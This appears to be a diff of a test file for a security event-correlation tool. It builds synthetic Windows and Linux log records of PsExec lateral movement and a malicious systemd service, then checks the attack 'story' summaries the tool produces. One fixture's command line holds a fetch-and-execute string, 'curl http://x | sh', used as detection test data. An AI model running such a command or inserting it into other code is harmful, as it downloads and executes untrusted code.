@@ -17,6 +17,27 @@ const seed = (record: StoryRecord | undefined, level = 'medium'): StorySeed => (
 const steps = (story: Story | undefined): string =>
   story?.steps.map((s) => `${s.step}:${s.events}`).join(' ') ?? 'none';
 
+/** A unit file written and a `systemctl` run (pid, parent pid), as Linux process events carry them. */
+const unitWritten = (seconds: number, name: string) =>
+  linuxEvent(seconds, 'file_event', { TargetFilename: `/etc/systemd/system/${name}`, Image: '/usr/bin/cp' });
+const systemctl = (seconds: number, pid: number, ppid: number, command: string, user = 'root') =>
+  linuxEvent(seconds, 'process_creation', {
+    ProcessId: pid,
+    ParentProcessId: ppid,
+    Image: '/usr/bin/systemctl',
+    CommandLine: command,
+    User: user,
+  });
+/** The process systemd starts for a unit: its parent is pid 1. */
+const execStart = (seconds: number) =>
+  linuxEvent(seconds, 'process_creation', {
+    ProcessId: 600,
+    ParentProcessId: 1,
+    Image: '/usr/bin/bash',
+    CommandLine: '/bin/bash -c "curl http://x | sh"',
+    ParentImage: '/usr/lib/systemd/systemd',
+  });
+
 /** PsExec on the target: logon, ADMIN$ copy, svcctl, 7045 + 4697, PSEXESVC.exe, cmd → whoami, stop. */
 function psexec(at: number, host = 'FS01', logon = '0x5c3a1f2'): StoryRecord[] {
   const sec = {
@@ -193,28 +214,10 @@ describe('buildStories', () => {
 
   it('tells the Linux chain: unit file → daemon-reload → systemctl start → the unit’s process', () => {
     const records = recordsOf([
-      linuxEvent(0, 'file_event', { TargetFilename: '/etc/systemd/system/evil.service', Image: '/usr/bin/cp' }),
-      linuxEvent(1, 'process_creation', {
-        ProcessId: 500,
-        ParentProcessId: 400,
-        Image: '/usr/bin/systemctl',
-        CommandLine: 'systemctl daemon-reload',
-        User: 'root',
-      }),
-      linuxEvent(2, 'process_creation', {
-        ProcessId: 501,
-        ParentProcessId: 400,
-        Image: '/usr/bin/systemctl',
-        CommandLine: 'systemctl start evil.service',
-        User: 'root',
-      }),
-      linuxEvent(2.5, 'process_creation', {
-        ProcessId: 600,
-        ParentProcessId: 1,
-        Image: '/usr/bin/bash',
-        CommandLine: '/bin/bash -c "curl http://x | sh"',
-        ParentImage: '/usr/lib/systemd/systemd',
-      }),
+      unitWritten(0, 'evil.service'),
+      systemctl(1, 500, 400, 'systemctl daemon-reload'),
+      systemctl(2, 501, 400, 'systemctl start evil.service'),
+      execStart(2.5),
       linuxEvent(2.6, 'process_creation', {
         ProcessId: 601,
         ParentProcessId: 600,
@@ -229,5 +232,95 @@ describe('buildStories', () => {
     expect(stories[0]?.summary).toBe(
       'On deb12, installed service evil.service (by root), which ran systemd → bash → curl.',
     );
+  });
+
+  it('keeps PsExec sessions days apart in two stories, though each deletes the same PSEXESVC.exe', () => {
+    const deleteAt = (at: number): StoryRecord[] =>
+      recordsOf([
+        windowsEvent(at + 121, {
+          Channel: 'Microsoft-Windows-Sysmon/Operational',
+          EventID: 23,
+          TargetFilename: 'C:\\Windows\\PSEXESVC.exe',
+          Image: 'C:\\Windows\\System32\\services.exe',
+        }),
+      ]);
+    const first = [...psexec(0, 'FS01', '0x111'), ...deleteAt(0)];
+    const second = [...psexec(3 * 86_400, 'FS01', '0x222'), ...deleteAt(3 * 86_400)];
+    const installs = [first, second].map((r) => seed(r.find((x) => x.eventId === 7045)));
+    const stories = buildStories([...first, ...second], installs);
+    expect(stories.map((s) => steps(s))).toEqual([
+      'logon:1 share:2 install:2 start:1 payload:2 cleanup:2',
+      'logon:1 share:2 install:2 start:1 payload:2 cleanup:2',
+    ]);
+  });
+
+  it('does not link a share access of the same logon id days later (ids recur after a reboot)', () => {
+    const chain = psexec(0);
+    const later = recordsOf([
+      windowsEvent(5 * 86_400, {
+        Channel: 'Security',
+        EventID: 5145,
+        SubjectUserName: 'bob',
+        SubjectDomainName: 'CORP',
+        SubjectLogonId: '0x5c3a1f2',
+        IpAddress: '10.9.9.9',
+        ShareName: '\\\\*\\C$',
+        RelativeTargetName: 'Users\\bob\\notes.txt',
+      }),
+    ]);
+    const [story] = buildStories([...chain, ...later], [seed(chain.find((x) => x.eventId === 7045))]);
+    expect(story?.accounts).toEqual(['CORP\\it-admin']);
+    expect(story?.last).toBe(Date.parse('2024-05-01T10:02:00Z'));
+  });
+
+  it('takes a log without host names, or with empty ones, as one machine per file', () => {
+    const install = (file: string) =>
+      recordsOf([
+        windowsEvent(0, {
+          Computer: '',
+          Channel: 'System',
+          EventID: 7045,
+          ServiceName: `x${file}`,
+          ImagePath: 'c:\\x.exe',
+        }),
+      ]).map((r) => ({ ...r, source: { ...r.source, file }, eventKey: `${file}\u0000${r.eventKey}` }));
+    const records = [...install('a.evtx'), ...install('b.evtx')];
+    const stories = buildStories(
+      records,
+      records.map((r) => seed(r)),
+    );
+    expect(stories.map((s) => s.summary)).toEqual([
+      'On the host of a.evtx, installed service xa.evtx.',
+      'On the host of b.evtx, installed service xb.evtx.',
+    ]);
+  });
+
+  it('tells a story of 200,000 events with findings (no argument-count limit)', () => {
+    const events = Array.from({ length: 200_000 }, (_, i) =>
+      windowsEvent(i * 5, {
+        Channel: 'System',
+        EventID: 7036,
+        param1: 'EvilSvc',
+        param2: i % 2 ? 'stopped' : 'running',
+      }),
+    );
+    const records = recordsOf(events);
+    const stories = buildStories(
+      records,
+      records.map((r) => seed(r, 'high')),
+    );
+    expect(stories.map((s) => [s.level, s.findings])).toEqual([['high', 200_000]]);
+  });
+
+  it('gives an ExecStart process to the start of the unit just written, not to a later start of another', () => {
+    const r = recordsOf([
+      unitWritten(0, 'evil.service'),
+      systemctl(1, 501, 400, 'systemctl start evil.service'),
+      systemctl(1.5, 502, 401, 'systemctl restart nginx', 'admin'),
+      execStart(2.5),
+    ]);
+    expect(buildStories(r, [seed(r[0])]).map((s) => s.summary)).toEqual([
+      'On deb12, installed service evil.service (by root), which ran systemd → bash.',
+    ]);
   });
 });
